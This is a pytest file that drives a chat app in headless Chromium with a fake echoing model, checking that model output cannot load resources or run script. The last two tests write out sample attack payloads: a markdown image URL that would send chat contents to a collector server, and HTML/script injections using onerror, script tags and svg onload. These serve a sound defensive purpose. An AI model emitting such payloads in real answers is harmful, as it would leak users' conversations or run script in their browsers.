"""Reliability in a real headless Chromium: what a model (or a web page talking through it) writes cannot run script or
load anything in the page. The app runs this module's `SayingSource`, a fake model that answers with whatever follows
"say:" in the question, so the test decides exactly what the "model" writes.

Run: python -m pytest -m browser tests/test_reliability_browser.py -q
"""

from __future__ import annotations

import importlib.util
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from fakes.app_process import CHROMIUM, chromium, running_app
from fakes.models import ScriptedLLM
from ui.model_manager import ModelLoadError, ModelOption

MODEL = "saying"

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="needs Debian chromium: apt-get install -y chromium"),
    pytest.mark.skipif(importlib.util.find_spec("playwright") is None,
                       reason="needs playwright: pip install playwright"),
]


class SayingLLM(ScriptedLLM):
    """Says what it is told: the text after "say:" in the last user message."""

    def stream(self, messages, params):
        self.enqueue(lambda prompt: prompt[-1].content.split("say:", 1)[-1].strip())
        yield from super().stream(messages, params)


class SayingSource:
    def default_name(self) -> str:
        return MODEL

    def options(self) -> list[ModelOption]:
        return [ModelOption(MODEL, "Says what it is told (test fake)")]

    def load(self, name: str):
        if name != MODEL:
            raise ModelLoadError(f"Unknown model {name!r}.")
        return SayingLLM(name=MODEL, chunk_chars=8)


class Collector:
    """A loopback HTTP server that records every path requested from it: the exfiltration target."""

    def __init__(self):
        self.paths: list[str] = []
        collector = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802 (http.server's naming)
                collector.paths.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.send_header("Content-Length", "0")
                self.end_headers()

            def log_message(self, *args):
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self):
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture(scope="module")
def collector():
    server = Collector()
    yield server
    server.close()


@pytest.fixture(scope="module")
def page(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("browser-reliability")
    env = {"APP_MODEL_SOURCE": "tests.test_reliability_browser:SayingSource", "APP_DEFAULT_MODEL": MODEL,
           "APP_PRELOAD": "1", "HF_HUB_OFFLINE": "1"}
    with running_app(env, tmp / "app.log") as app, chromium() as browser:
        page = browser.new_page()
        page.set_default_timeout(30_000)
        page.goto(app.url)
        page.wait_for_selector("#message textarea")
        yield page


def say(page, text: str) -> str:
    """Ask the fake to say `text`; return the rendered answer's text once its stats line is there."""
    stats = page.locator("#chatbot .thought-group .title", has_text="📊")
    before = stats.count()
    box = page.locator("#message textarea")
    box.fill(f"say: {text}")
    box.press("Enter")
    deadline = time.monotonic() + 30
    while stats.count() <= before:
        assert time.monotonic() < deadline, "no answer within 30 s"
        time.sleep(0.05)
    texts = page.locator("#chatbot [data-testid='bot'] > .message-content").all_inner_texts()
    return [text for text in texts if not text.startswith("🚫")][-1]  # the answer, not the "No live data" note


def test_a_markdown_image_in_an_answer_loads_nothing_and_shows_as_text(page, collector):
    shown = say(page, f"Summary ![chart]({collector.url}/leak.gif?chat=secret-plans) done")
    time.sleep(1.0)  # an image would have been fetched by now
    assert collector.paths == [], f"the page fetched {collector.paths}"
    assert "![chart](" in shown and "leak.gif" in shown
    assert page.locator(f"#chatbot img[src^='{collector.url}']").count() == 0


def test_html_and_script_in_an_answer_do_not_run(page, collector):
    shown = say(page, f'<img src="{collector.url}/html.gif" onerror="window.__pwned=1"><script>window.__pwned=2'
                      "</script><svg onload=\"window.__pwned=3\"></svg>")
    time.sleep(0.5)
    assert page.evaluate("window.__pwned === undefined")
    assert [p for p in collector.paths if "html.gif" in p] == [] and "<script>" in shown
